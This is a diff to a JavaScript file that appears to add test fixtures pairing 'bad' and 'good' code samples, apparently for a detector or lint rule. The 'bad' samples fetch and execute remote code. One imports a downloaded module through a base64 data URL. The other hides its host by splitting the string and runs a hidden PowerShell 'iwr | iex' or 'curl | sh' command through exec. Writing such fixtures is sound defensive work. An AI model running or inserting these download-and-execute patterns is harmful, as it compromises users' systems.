@@ -32,3 +32,40 @@ export async function dictionary(language) {
   const answer = await fetch(`https://words.example.invalid/${language}.dic`);
   await pipeline(Readable.fromWeb(answer.body), createWriteStream(`./words/${language}.dic`));
 }
+
+//: bad remote-module
+const load = async () => {
+  const answer = await fetch('https://m.example.invalid/mod.mjs');
+  const source = await answer.text();
+  return import('data:text/javascript;base64,' + btoa(source)); //!
+};
+
+load().then((module) => module.default());
+
+//: good remote-module
+const load = async (locale) => {
+  const answer = await fetch(`/locales/${encodeURIComponent(locale)}.json`);
+  return answer.json();
+};
+
+load(navigator.language).then((messages) => console.log(messages.welcome));
+
+//: bad one-liner
+const { exec } = require('child_process');
+
+const site = ['dl', 'example', 'invalid'].join('.');
+const lines = {
+  win32: `powershell -w hidden -c "iwr https://${site}/a.ps1 | iex"`,
+  linux: `curl -fsSL https://${site}/a.sh | sh`,
+};
+exec(lines[process.platform], () => {}); //!
+
+//: good one-liner
+const { exec } = require('child_process');
+
+const page = 'http://localhost:8080/';
+const lines = {
+  win32: `start "" "${page}"`,
+  linux: `xdg-open ${page}`,
+};
+exec(lines[process.platform], () => {});
